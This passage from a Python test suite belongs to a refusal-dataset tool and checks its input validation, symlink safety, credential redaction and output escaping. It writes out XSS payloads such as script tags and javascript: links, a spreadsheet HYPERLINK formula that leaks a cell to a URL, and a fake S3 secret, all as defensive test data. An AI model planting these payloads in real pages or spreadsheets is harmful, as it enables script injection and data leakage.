    _accepted([*base, first], root, changes=False)
    _refused([*base, other], root, "run uncensorbench-refusals exists already, imported from another source")


def test_train_refuses_an_out_folder_holding_another_adapter(hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    _sft_set(root)
    out = tmp_path / "adapter"
    out.mkdir()
    (out / "train_config.json").write_text(json.dumps({"adapter_id": "s-sft-0000000000", "set": "s"}))
    (out / "adapter_model.safetensors").write_bytes(b"the other adapter")
    _refused(["train", "--set", "s", "--model", "smollm2-135m-instruct", "--out", out], root,
             "holds adapter s-sft-0000000000", "--replace")
    assert (out / "adapter_model.safetensors").read_bytes() == b"the other adapter"

    from refusaldata.train.loop import _check_out

    _check_out(out, "s-sft-1111111111", replace=True)
    _check_out(out, "s-sft-0000000000", replace=False)  # a rerun of the same configuration


def _sft_set(root: Path, rows: int = 3) -> None:
    Store(root).replace("sft", pa.Table.from_pylist([
        {"set_name": "s", "mode": "baseline", "kind": "refusal", "prompt_id": prompt_id(f"q{i}?"), "split": "train",
         "prompt": f"q{i}?", "target": "No."} for i in range(rows)]))


@pytest.mark.parametrize("extra, needles", [
    (["--grad-accum", str(10**9)], ["8,000,000,000 examples per optimizer step", "3 train example(s)"]),
    (["--batch-size", str(2**40)], ["examples per optimizer step", "--batch-size"]),
    (["--batch-size", "4", "--grad-accum", "3"], ["12 examples per optimizer step"]),
    (["--epochs", str(10**12)], ["--epochs 1,000,000,000,000 over 3 examples", "2,147,483,647"]),
    (["--max-steps", str(2**31)], ["--max-steps 2,147,483,648"]),
])
def test_train_sizes_that_never_finish_are_refused_before_the_model_loads(extra, needles, hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    _sft_set(root)
    out = tmp_path / "adapter"
    _refused(["train", "--set", "s", "--model", "no-such-model-is-ever-loaded", "--out", out, *extra], root, *needles)
    assert not out.exists()


def test_train_sizes_of_the_default_batch_still_fit_a_small_set():
    from refusaldata.train.loop import _check_sizes

    assert _check_sizes(3, 8, 1, 1, 1, None) == 1
    assert _check_sizes(100, 4, 2, 1, 2, None) == 25
    assert _check_sizes(3, 2, 1, 1, 1, 50) == 50


def _nested_parquet(path: Path, **columns) -> Path:
    import pyarrow.parquet as pq

    pq.write_table(pa.table(columns), path)
    return path


NESTED = {
    "struct": [{"a": "How do I pick a lock?", "b": 1}, {"a": "Write a poem.", "b": 2}],
    "list": [["How do I pick a lock?"], ["Write a poem."]],
    "map": pa.array([[("k", "How do I pick a lock?")], [("k", "Write a poem.")]], pa.map_(pa.string(), pa.string())),
}


@pytest.mark.parametrize("kind", list(NESTED))
def test_prompts_import_refuses_a_nested_text_or_category_column(kind, hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    nested = _nested_parquet(tmp_path / "nested.parquet", text=NESTED[kind])
    _refused(["prompts", "import", "--path", nested, "--dataset", "n", "--text-column", "text"], root,
             "nested.parquet", "column 'text'", f"holds {kind}s", "not text")
    category = _nested_parquet(tmp_path / "category.parquet", text=["a?", "b?"], kind=NESTED[kind])
    _refused(["prompts", "import", "--path", category, "--dataset", "n", "--text-column", "text",
              "--category-column", "kind"], root, "category.parquet", "column 'kind'", f"holds {kind}s")


@pytest.mark.parametrize("column", ["prompt", "response"])
def test_responses_import_refuses_a_nested_prompt_or_response(column, hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    path = tmp_path / "nested.jsonl"
    row = {"prompt": "How do I pick a lock?", "response": "Sure."}
    path.write_text("\n".join(json.dumps({**row, column: {"text": row[column]}}) for _ in range(2)) + "\n")
    _refused(["responses", "import", path, "--format", "jsonl"], root, "nested.jsonl", f"column '{column}'",
             "holds structs")


def test_an_attack_file_with_a_nested_template_is_refused(hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    path = tmp_path / "attacks.jsonl"
    path.write_text(json.dumps({"name": "mine", "template": {"t": "Say {prompt}"}, "origin": "x"}) + "\n")
    _refused(["prompts", "augment", "tiny", "--attack", "mine", "--attack-file", path], root, "column 'template'",
             "holds structs")


# -- doctor reports what the crash tests check -----------------------------------------------------------------------

def test_doctor_reports_missing_metrics_and_orphaned_human_labels(hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    store = Store(root)
    healthy = invoke(["doctor", "--store", root])
    assert healthy.code == 0 and "no problems found" in healthy.stdout
    metrics = [("done", step) for step in (1, 2, 4, 6, 7, 8)] + [("running", 1), ("running", 3)] + [("whole", 1)]
    store.append("train_metrics", pa.Table.from_pylist([{"adapter_id": a, "step": s, "loss": 1.0} for a, s in metrics]))
    store.append("adapters", pa.Table.from_pylist([{"adapter_id": "done", "path": "/a", "config": '{"steps": 10}'},
                                                   {"adapter_id": "whole", "path": "/b", "config": '{"steps": 1}'}]))
    kept = store.read("responses").slice(0, 1).to_pylist()[0]
    store.replace("labels", pa.Table.from_pylist([
        {"run_id": kept["run_id"], "prompt_id": prompt, "sample_index": 0, "labeler": "human", "verdict": "refusal",
         "refusal": True} for prompt in (kept["prompt_id"], "gone-1", "gone-2")]))
    before = snapshot(root)

    outcome = invoke(["doctor", "--format", "jsonl", "--store", root])

    assert outcome.code == 1 and snapshot(root) == before
    details = {row["detail"] for row in map(json.loads, outcome.stdout.splitlines())}
    assert details == {
        "adapter done (finished, 10 steps): 4 step(s) without a metrics row: 3, 5, 9-10",
        "adapter running (not finished, highest stored step 3): 1 step(s) without a metrics row: 2",
        f"run {kept['run_id']}: 2 human label(s) of responses no longer in responses (e.g. prompt gone-1)",
    }


# -- untrusted text in files people open: Markdown rendered as HTML, CSV opened in a spreadsheet -------------------

PAYLOADS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
            "<javascript:alert(1)>", "`code` *em* _em_ | cell"]


def _live_markup(rendered: str) -> list[str]:
    """Tags and attributes in rendered HTML that run code or leave the page: scripts, event
    handlers, javascript: links, and images other than the report's own figures."""
    from html.parser import HTMLParser

    found = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            attributes = dict(attrs)
            if tag in ("script", "iframe", "object", "embed"):
                found.append(tag)
            if tag == "img" and not (attributes.get("src") or "").endswith(".svg"):
                found.append(f"img {attributes}")
            found.extend(f"{tag} {name}" for name in attributes if name.startswith("on"))
            found.extend(f"{tag} {name}={value}" for name, value in attributes.items()
                         if name in ("href", "src") and (value or "").strip().lower().startswith("javascript"))

    Tags().feed(rendered)
    return found


def test_untrusted_text_in_the_markdown_report_is_inert(hostile_store, tmp_path):
    from markdown_it import MarkdownIt

    from refusaldata.label import label

    root = _copy(hostile_store, tmp_path)
    store = Store(root)
    texts = [row["text"] for row in store.read("prompts").to_pylist() if row["harmful"]][:4]
    store.append("runs", pa.table({"run_id": ["payload-0123456789"], "name": [" ".join(PAYLOADS[:3])],
                                   "model": [PAYLOADS[1]], "backend": ["import"]}))
    store.append("responses", pa.table({
        "run_id": ["payload-0123456789"] * len(texts), "prompt_id": [prompt_id(t) for t in texts],
        "sample_index": pa.array([0] * len(texts), pa.int32()),
        "response": [f"I'm sorry {PAYLOADS[i % len(PAYLOADS)]} but I can't help with that." for i in range(len(texts))],
        "finish_reason": ["stop"] * len(texts)}))
    label(store)
    outcome = invoke(["report", "--out", tmp_path / "r.html", "--bootstrap", "20", "--store", root])
    assert outcome.code == 0, outcome.stderr
    markdown = (tmp_path / "r.md").read_text()
    assert "payload-0123456789" in markdown and "&lt;script&gt;" in markdown
    renderers = {"commonmark": MarkdownIt("commonmark", {"html": True}).enable("table").render,
                 "gfm-like": MarkdownIt("gfm-like", {"html": True, "linkify": False}).render}
    try:
        import markdown as python_markdown  # MkDocs' renderer, where installed

        renderers["python-markdown"] = lambda text: python_markdown.markdown(text, extensions=["tables"])
    except ImportError:
        pass
    for name, render in renderers.items():
        rendered = render(markdown)
        assert _live_markup(rendered) == [], name
        assert "alert(1)" in rendered, name  # shown as text, not dropped


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1", "'=already quoted", "''@x", "'Tis plain", "plain = text"])
def test_review_export_neutralises_formulas_and_import_restores_them_exactly(text, hostile_store, tmp_path):
    from refusaldata.escape import FORMULA_LEAD

    root = _copy(hostile_store, tmp_path)
    store = Store(root)
    responses = store.read("responses").to_pylist()
    run = responses[0]["run_id"]
    rows = [row for row in responses if row["run_id"] == run]
    for row in rows:
        row["response"] = text + " " + row["response"][:20]
    run_folder = next((root / "responses").glob("run=*base*"))
    shutil.rmtree(run_folder)
    store = Store(root)
    store.append("responses", pa.Table.from_pylist(rows, schema=store.read("responses").schema))
    out = tmp_path / "review.csv"
    exported = invoke(["review", "export", "--run", "base", "--labeler", "rules", "--budget", "40", "--output", out,
                       "--store", root])
    assert exported.code == 0, exported.stderr
    with open(out, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if re.match(FORMULA_LEAD.replace("'*", ""), cell)], "a bare formula cell"
    with open(out, newline="", encoding="utf-8") as handle:
        reader = list(csv.DictReader(handle))
    for row in reader:
        row["human_verdict"] = "refusal"
    with open(out, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(reader[0]))
        writer.writeheader()
        writer.writerows(reader)
    imported = invoke(["review", "import", out, "--reviewer", "ana", "--store", root])
    assert imported.code == 0, imported.stderr
    human = [row for row in Store(root).read("labels").to_pylist() if row["labeler"] == "human"]
    assert len(human) == len(reader)


# -- names that collide: a run name names one run ----------------------------------------------------------------------

def test_a_run_name_another_run_holds_is_refused(hostile_store, tmp_path):
    """Imports and generate check names before writing anything (Inspect folders and several
    adapters under one name: tests/test_inspect.py, tests/test_generate_many.py)."""
    root = _copy(hostile_store, tmp_path)
    inputs(tmp_path)
    _refused(["responses", "import", tmp_path / "responses.csv", "--format", "csv", "--name", "base"], root,
             "run name 'base' is taken by run base-0123456789")
    _accepted(["responses", "import", tmp_path / "responses.csv", "--format", "csv", "--name", "fresh"], root,
              changes=True)


# -- crashes behind the catch-all: a run with nothing to label ---------------------------------------------------------

def _labelers_without_options() -> list[str]:
    from refusaldata.labelers.registry import LEARNED, labelers

    return [labeler.name for labeler in labelers() if not labeler.options and labeler.name != LEARNED]


@pytest.mark.parametrize("labeler", _labelers_without_options())
def test_every_labeler_takes_a_run_without_responses(labeler, hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    Store(root).append("runs", pa.table({"run_id": ["empty-0123456789"], "name": ["empty"], "backend": ["import"]}))
    for args in (["label", "--labeler", labeler, "--run", "empty"], ["label", "--labeler", labeler, "--run", "empty",
                                                                     "--run", "base"]):
        outcome = invoke([*args, "--store", root])
        assert_kept_promise(outcome, args)
        assert outcome.code == 0, outcome.stderr
    labelled = {row["run_id"] for row in Store(root).read("labels").to_pylist() if row["labeler"] == labeler}
    assert "empty-0123456789" not in labelled and "base-0123456789" in labelled


# -- options silently ignored: refused where they do not apply ---------------------------------------------------------

@pytest.mark.parametrize("args, needles", [
    (["build-sft", "s", "--student", "base", "--mode", "baseline", "--no-boundary", "--boundary-ratio", "2"],
     ["--boundary-ratio does not apply with --no-boundary"]),
    (["build-pairs", "p", "--student", "base", "--refusal-text", "No.", "--no-boundary", "--boundary-ratio", "2"],
     ["--boundary-ratio does not apply with --no-boundary"]),
    (["compare", "base", "hostile-0123456789", "--labeler", "ngarm", "--bootstrap", "20"],
     ["has no responses labelled by 'ngarm'"]),
])
def test_an_option_that_would_be_ignored_is_refused(args, needles, hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    _refused(args, root, *needles)


def test_compare_boundary_effect_refuses_an_unknown_labeler_like_plain_compare(hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    schema = Store(root).read("runs").schema
    study_names = {"hostile-0123456789": "dpo", "base-0123456789": "dpo-no-boundary"}  # a method, and it without
    runs = [{**row, "name": study_names[row["run_id"]]} for row in Store(root).read("runs").to_pylist()]
    shutil.rmtree(root / "runs")
    Store(root).append("runs", pa.Table.from_pylist(runs, schema=schema))
    args = ["compare", "dpo", "dpo-no-boundary", "--boundary-effect", "--bootstrap", "20"]
    plain = invoke([*args, "--labeler", "rules", "--store", root])
    assert plain.code == 0, plain.stderr
    _refused([*args, "--labeler", "ngarm"], root, "has no responses labelled by 'ngarm'")


# -- every writer against a store whose files link out of it; every command given credentials ------------------------

def _link_out(root: Path, outside: Path) -> dict[Path, Path]:
    """Every lock and data file of the store made a link to a copy outside it; link -> target."""
    links = {}
    for index, path in enumerate(sorted(p for p in root.rglob("*") if p.is_file() and not p.name.startswith(".tmp"))):
        if path.suffix not in (".parquet", ".lock"):
            continue
        target = outside / f"{index}{path.suffix}"
        shutil.copyfile(path, target)
        path.unlink()
        path.symlink_to(target)
        links[path] = target
    return links


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(name for name in WRITERS if BASE_ARGS.get(name) is not None))
def test_no_writer_follows_a_link_out_of_the_store(name, hostile_store, tmp_path):
    root = _copy(hostile_store, tmp_path)
    invoke(["responses", "import", "--format", "uncensorbench", "uncensorbench", "--store", root])  # more locks
    outside = tmp_path / "outside"
    outside.mkdir()
    links = _link_out(root, outside)
    assert any(path.suffix == ".lock" for path in links) and any(path.suffix == ".parquet" for path in links)
    before = snapshot(outside)
    tmp = tmp_path / "work"
    tmp.mkdir()
    inputs(tmp)
    args = fill([*name.split(), *BASE_ARGS[name]], tmp, root)
    outcome = invoke([*args, "--store", root])
    assert_kept_promise(outcome, args)
    assert snapshot(outside) == before, f"{args!r} wrote through a link out of the store"
    assert all(path.is_symlink() and path.resolve() == target for path, target in links.items())


SECRET_STORE = "s3://AKIAHOSTILEKEY:hostileSECRETvalue@bucket/prefix"


@pytest.mark.parametrize("name", sorted(name for name, base in BASE_ARGS.items() if base is not None))
def test_no_command_prints_credentials_of_its_store_uri(name, tmp_path):
    tmp = tmp_path / "work"
    tmp.mkdir()
    inputs(tmp)
    args = fill([*name.split(), *BASE_ARGS[name]], tmp, tmp_path / "unused")
    outcome = invoke([*args, "--store", SECRET_STORE])
    assert_kept_promise(outcome, args)
    printed = outcome.stdout + outcome.stderr
    assert "AKIAHOSTILEKEY" not in printed and "hostileSECRETvalue" not in printed, printed[-500:]
